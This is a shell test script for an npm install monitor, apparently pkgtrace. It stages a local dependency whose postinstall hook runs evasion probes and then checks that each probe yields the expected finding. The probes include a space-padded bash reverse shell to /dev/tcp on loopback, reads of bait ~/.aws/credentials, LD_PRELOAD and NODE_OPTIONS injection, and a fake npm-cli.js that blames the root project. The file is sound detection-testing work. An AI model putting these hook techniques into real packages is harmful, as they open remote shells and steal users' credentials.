#!/usr/bin/env bash
# trace_evasion_findings: each evasion probe (tests/helpers/evade.c, plus
# environment injection, blame shifting through a fake npm-cli.js and a
# padded reverse shell) ends in the right finding, not just the event.
# The probes run as the postinstall of a dependency installed by
# 'npm install' from a local tarball (no registry), inside a network
# namespace this test makes (loopback only); probes at the collector run
# under 'pkgtrace -- evade tamper', where the collector is evade's parent.
if [ -z "${PKGTRACE_EVASION_NETNS:-}" ]; then
	exec unshare -n env PKGTRACE_EVASION_NETNS=1 \
		bash -c 'ip link set lo up && exec bash "$@"' evasion "$0" "$@"
fi
. "$(dirname "$0")/trace_common.inc"
EVADE=$TOP/build/helpers/evade
if [ ! -x "$EVADE" ]; then
	fail "helper built" "$EVADE missing: run 'make unit'"
	done_testing
fi

# A throwaway HOME with bait credentials, the dependency and the project.
H=$TMP/home
mkdir -p "$H/.aws" "$TMP/tmp" "$TMP/mnt" "$TMP/dep/fake" "$TMP/proj"
echo "[default]" > "$H/.aws/credentials"
echo "//registry.example/:_authToken=bait" > "$H/.npmrc"
echo "exit 0" > "$TMP/hook.js"
cat > "$TMP/dep/package.json" <<EOF
{ "name": "evade-dep", "version": "1.0.0", "scripts": { "postinstall": "sh probes.sh" } }
EOF
PAD=$(printf '%1500s' '')
cat > "$TMP/dep/probes.sh" <<EOF
E=$EVADE
\$E int80-open "\$HOME/.aws/credentials"
\$E sys "$TMP/mnt" "\$HOME/.aws/credentials"
\$E uring "\$HOME/.aws/credentials" 9
\$E longargv
\$E tamper
bash -c "${PAD}bash -i >& /dev/tcp/127.0.0.1/4444 0>&1" </dev/null
LD_PRELOAD=$TMP/tmp/hook.so /bin/true
NODE_OPTIONS="--require $TMP/hook.js" node -e 0
node fake/npm-cli.js
exit 0
EOF
# the fake package manager: runs a "lifecycle script" that names the root
# project as its package
cat > "$TMP/dep/fake/npm-cli.js" <<'EOF'
const { spawnSync } = require('child_process');
spawnSync('sh', ['-c', 'cat "$HOME/.aws/credentials" >/dev/null'], {
	cwd: process.env.INIT_CWD, stdio: 'inherit',
	env: Object.assign({}, process.env, { npm_lifecycle_event: 'postinstall',
		npm_package_name: 'proj', npm_package_json: process.env.INIT_CWD + '/package.json' }),
});
EOF
(cd "$TMP/dep" && npm pack --silent --pack-destination "$TMP" >/dev/null 2>&1)
cat > "$TMP/proj/package.json" <<EOF
{ "name": "proj", "version": "1.0.0", "dependencies": { "evade-dep": "file:$TMP/evade-dep-1.0.0.tgz" } }
EOF
# the reverse shell's other end: accepts and closes
python3 -c "
import socket
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(('127.0.0.1', 4444)); s.listen(4); s.settimeout(120)
try:
    while True:
        c, _ = s.accept(); c.sendall(b'exit\n'); c.close()
except Exception:
    pass" &
LISTENER=$!

R=$TMP/npm.json
(cd "$TMP/proj" && env -i PATH=/usr/local/bin:/usr/bin:/bin HOME="$H" TMPDIR="$TMP/tmp" \
	timeout -k 5 300 "$PKGTRACE" -q --report "$R" -- \
	npm install --offline --no-audit --no-fund --loglevel=error >"$TMP/npm.out" 2>"$TMP/npm.err")
RC=$?
kill "$LISTENER" 2>/dev/null
[ "$RC" -eq 10 ] && ok "the install fails on its findings (exit 10)" \
	|| fail "the install fails on its findings (exit 10)" "rc=$RC $(tail -5 "$TMP/npm.err")"
if [ ! -s "$R" ]; then
	fail "report written" "$(tail -5 "$TMP/npm.err")"
	done_testing
fi

# finding RULE SEV WHAT [PYTHON-CONDITION on f]: evade-dep has a finding of
# RULE at SEV whose summary matches the condition.
finding() {
	local rule=$1 sev=$2 what=$3 cond=${4:-True}
	expect "$what: $rule $sev" "$R" \
		"[f for f in j['findings'] if f['rule']=='$rule' and f['severity']=='$sev' and f.get('package')=='evade-dep' and ($cond)]"
}
expect() {
	local name=$1 file=$2 expr=$3
	# a list passes when it found something (bool: the same rule as jpy's)
	if jpy "$file" "bool($expr)" >/dev/null 2>"$TMP/jpy.err"; then
		ok "$name"
	else
		fail "$name" "$(jpy "$file" "[(f['rule'], f['severity'], f.get('package'), f['summary'][:90]) for f in j['findings']]" 2>&1 | head -c 3000)"
	fi
}
finding evasion high "int 0x80 open" "'32-bit' in f['summary']"
finding credential-access high "int 0x80 open of ~/.aws/credentials" "'.aws/credentials' in f['summary']"
finding evasion high "unshare(CLONE_NEWNS)" "'unshare' in f['summary']"
finding evasion high "mount of a tmpfs" "'called mount' in f['summary']"
finding evasion high "open_tree" "'open_tree' in f['summary']"
finding evasion high "chroot" "'chroot' in f['summary']"
finding evasion high "open_by_handle_at" "'by handle' in f['summary']"
finding evasion low "io_uring_setup" "'io_uring' in f['summary']"
# high, not medium: the same package read ~/.aws/credentials first (exfiltration)
finding network-egress high "io_uring CONNECT to 127.0.0.1:9 after a credential read" "'127.0.0.1:9/tcp' in f['summary']"
finding monitor-tamper high "bpf() of a script" "'bpf()' in f['summary']"
finding unexpected-exec critical "reverse shell behind 1,500 and 5,000 spaces" "'reverse shell' in f['summary']"
expect "both padded reverse shells are counted" "$R" \
	"[f for f in j['findings'] if f['rule']=='unexpected-exec' and 'reverse shell' in f['summary'] and f['count']>=2]"
finding evasion high "argv padding" "'padded' in f['summary']"
finding unexpected-exec high "LD_PRELOAD for a child" "'LD_PRELOAD' in f['summary']"
finding unexpected-exec high "NODE_OPTIONS --require for a child" "'NODE_OPTIONS' in f['summary']"
finding credential-access high "the fake npm-cli.js's read stays the dependency's" "True"
expect "nothing is charged to the root project" "$R" \
	"not [f for f in j['findings'] if f.get('package')=='proj' and f['severity'] in ('medium','high','critical')]"
expect "the fake npm's script is not listed as the project's" "$R" \
	"not [p for p in j['packages'] if p.get('name')=='proj' and p.get('scripts')]"

# at the collector: evade's parent is pkgtrace
R=$TMP/tamper.json
timeout -k 5 120 "$PKGTRACE" -q --report "$R" -- "$EVADE" tamper >/dev/null 2>"$TMP/tamper.err"
RC=$?
[ "$RC" -eq 10 ] && ok "tamper: exit 10" || fail "tamper: exit 10" "rc=$RC $(tail -3 "$TMP/tamper.err")"
# under pkgtrace -- CMD the probe's parent is pkgtrace's init of the
# install's pid namespace (pid 1 there; its host pid through the pidfd)
expect "signal 0 and pidfd_send_signal to pkgtrace's init: monitor-tamper high" "$R" \
	"sum(f['count'] for f in j['findings'] if f['rule']=='monitor-tamper' and f['severity']=='high' and 'pkgtrace' in f['summary']) == 2"
expect "process_vm_readv of the collector: monitor-tamper critical" "$R" \
	"[f for f in j['findings'] if f['rule']=='monitor-tamper' and f['severity']=='critical' and 'process_vm_readv' in f['summary']]"
[ -n "${EVASION_DUMP:-}" ] && cp "$TMP/npm.json" "$EVASION_DUMP"
done_testing
